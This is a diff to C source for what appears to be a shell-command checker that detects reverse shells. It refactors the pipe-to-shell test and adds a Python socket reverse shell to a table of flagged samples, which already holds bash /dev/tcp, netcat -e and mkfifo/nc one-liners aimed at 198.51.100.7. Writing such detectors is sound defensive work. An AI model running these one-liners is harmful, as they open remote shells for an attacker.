@@ -34,11 +34,9 @@ static bool netcat_runs(const struct command *command)
 /* A pipe between a shell and what connects, on either side: "mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f". */
 static bool piped_to_shell(const struct judging *judging, const struct command *command)
 {
-    const struct command *first = judging->line->commands, *end = first + judging->line->count;
+    const struct command *into = command_feeds(judging->line, command), *from = command_fed_by(judging->line, command);
 
-    if (command->end == COMMAND_PIPES && command + 1 < end && command_is_shell(command + 1))
-        return true;
-    return command > first && command[-1].end == COMMAND_PIPES && command_is_shell(&command[-1]);
+    return (into && command_is_shell(into)) || (from && command_is_shell(from));
 }
 
 static bool script_connects(const struct command *command)
@@ -86,6 +84,7 @@ static const char *wrong_with(const struct judging *judging, const struct comman
 }
 
 static const struct rule_sample samples[] = {
+    {true, "$ python -c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")"},
     {true, "$ bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"},
     {true, "$ busybox nc 198.51.100.7 4444 -e /bin/sh"},
     {true, "$ sh -c rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 443 > /tmp/f"},
